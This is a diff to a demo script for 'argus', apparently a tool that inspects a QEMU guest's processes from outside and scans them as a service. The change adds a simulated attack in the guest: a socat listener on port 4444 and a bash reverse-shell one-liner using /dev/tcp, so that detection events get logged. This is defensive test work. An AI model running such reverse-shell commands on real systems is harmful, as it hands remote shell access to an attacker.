@@ -16,7 +16,7 @@ echo; echo "== the guest's processes, read from outside"
 echo; echo "== a process started in the guest appears in the next read"
 pid=$($g spawn $name -- 'sleep 600')
 "$argus" ps --source qemu:$ram | awk -v p="$pid" 'NR==1 || $1==p'
-echo; echo "== the service: 3 s of scanning while the guest works"
+echo; echo "== the service: scanning while the guest works, and is attacked"
 dir=$(mktemp -d)
 cat >"$dir/argus.yaml" <<YAML
 service:
@@ -33,7 +33,11 @@ YAML
 svc=$!
 sleep 2
 $g run $name -- 'sleep 1 & echo started' >/dev/null
-sleep 2
+# an attacker's listener and a reverse shell connecting to it
+$g spawn $name -- 'sleep 100 | socat TCP-LISTEN:4444,reuseaddr -' >/dev/null
+sleep 1
+$g spawn $name -- "bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'" >/dev/null
+sleep 3
 kill -TERM $svc; wait $svc || true
 echo; echo "== events written to $dir/events/argus-events.log:"
 python3 - "$dir/events/argus-events.log" <<'PY'
